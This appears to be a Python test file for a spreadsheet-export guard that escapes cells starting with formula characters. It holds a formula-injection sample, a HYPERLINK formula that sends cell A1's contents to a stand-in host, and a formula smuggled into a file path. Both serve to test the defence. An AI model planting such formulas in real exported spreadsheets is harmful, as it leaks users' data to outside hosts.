"""What a document says stays text in every spreadsheet, and comes back as it was."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from extract.writers.collected import write_collected
from extract.writers.formats import Format
from extract.writers.spreadsheet import guard, unguard
from tests.records import make_record

SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]  # noqa: RUF001
FORMULA = '=HYPERLINK("http://contoh.invalid?x="&A1,"Klik")'


@given(st.text())
def test_any_text_comes_back(text: str) -> None:
    assert unguard(guard(text)) == text


@given(st.sampled_from(SIGNS), st.text())
def test_no_cell_begins_as_a_formula_does(sign: str, text: str) -> None:
    assert guard(sign + text)[0] == "'"
    assert unguard(guard("'" + sign + text)) == "'" + sign + text


@pytest.mark.parametrize("text", ["", "Berkas", "1-2 hari", "a=b", "[1]", " =1"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert guard(text) == text


def test_the_tables_are_safe_and_pandas_reads_them_back(tmp_path: Path) -> None:
    record = make_record()
    record.header.title = FORMULA
    texts = [FORMULA, "-", "'apa adanya'"]
    record.steps[0].activity, record.steps[0].output, record.steps[0].remarks = texts
    record.source.path = "+sop/=1+1.pdf"
    write_collected(tmp_path, [Format.CSV], [record])
    for path in tmp_path.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as stream:
            cells = [cell for row in csv.reader(stream) for cell in row]
        assert not [cell for cell in cells if cell.startswith(tuple(SIGNS))]

    def load(table: str) -> pd.DataFrame:
        frame = pd.read_csv(tmp_path / f"{table}.csv", dtype=str, keep_default_na=False)
        return frame.replace("^'", "", regex=True)

    step = load("steps").iloc[0]
    assert [step["activity"], step["output"], step["remarks"]] == texts
    document = load("documents").iloc[0]
    assert (document["title"], document["path"]) == (FORMULA, "+sop/=1+1.pdf")
